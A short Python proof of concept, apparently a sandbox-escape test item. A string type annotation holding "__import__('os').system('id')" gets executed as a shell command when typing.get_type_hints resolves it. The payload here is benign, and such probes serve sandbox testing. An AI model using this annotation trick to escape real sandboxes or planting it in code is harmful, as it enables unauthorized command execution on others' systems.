# class: typing.get_type_hints evaluates annotation strings as code
import typing
class A:
    x: "__import__('os').system('id')"
print("ESCAPED", typing.get_type_hints(A))
